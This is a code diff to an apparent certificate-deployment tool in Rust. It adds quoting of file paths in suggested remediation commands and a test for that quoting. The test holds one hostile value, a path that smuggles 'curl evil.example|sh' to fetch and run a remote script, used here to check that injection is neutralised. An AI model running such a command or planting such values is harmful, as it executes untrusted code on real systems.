@@ -2,7 +2,8 @@
 
 use crate::cert::NodeName;
 use crate::observed::Advice;
-use crate::plan::rollout::{FENCE_IMPLAUSIBLE, FOREIGN_NEWER, Refusal};
+use crate::plan::rollout::{FENCE_IMPLAUSIBLE, FOREIGN_NEWER, NOT_PERMITTED, Refusal};
+use crate::report::as_word;
 use crate::ssh::SshError;
 
 #[derive(Debug, thiserror::Error)]
@@ -44,7 +45,7 @@ impl NodeError {
                 Refusal::Links { .. } => "node-links",
                 Refusal::Locked => "node-locked",
                 Refusal::Unfit { .. } => "node-unfit",
-                Refusal::NotPermitted { .. } => "node-not-permitted",
+                Refusal::NotPermitted { .. } => NOT_PERMITTED,
                 Refusal::Version { .. } => "node-version",
             },
             Self::Garbled { .. } => "node-garbled",
@@ -118,6 +119,7 @@ fn of_receiver(node: &NodeName, why: &str) -> String {
 }
 
 fn of_path(node: &NodeName, path: &str, why: &str) -> String {
+    let path = as_word(path);
     if why.contains("paths swapped") {
         return format!(
             "write `fullchain` and `key` the right way round in [install] of {node}, then: certd deploy --node {node}"
@@ -155,6 +157,10 @@ mod tests {
             assert!(program.contains(why) && next(why).starts_with(begins), "{}", next(why));
         }
         assert!(next("is a link to /etc/hostname, not made by certd").starts_with("put /ssl/fullchain.pem right"));
+        let node = NodeName::parse("shenzhen").unwrap();
+        let refusal = Refusal::Path { path: "/x right; curl evil.example|sh #".into(), why: "no".into() };
+        let next = NodeError::Refused { node, refusal }.next();
+        assert!(next.starts_with("put '/x right; curl evil.example|sh #' right on shenzhen"), "{next}");
     }
 
     #[test]
